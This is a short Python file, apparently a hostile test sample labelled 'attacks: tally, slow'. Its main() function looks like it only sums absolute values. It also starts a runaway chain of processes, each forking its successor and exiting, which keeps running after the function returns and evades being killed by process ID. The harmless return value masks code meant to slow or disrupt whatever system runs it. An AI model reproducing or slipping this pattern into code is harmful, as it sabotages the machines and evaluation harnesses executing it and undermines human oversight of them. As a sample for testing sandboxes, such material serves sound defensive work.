"""Each process forks the next one and ends."""

# attacks: tally, slow

import os


def main(numbers):
    if not os.fork():
        while True:
            if os.fork():
                os._exit(0)
    return sum(map(abs, numbers))
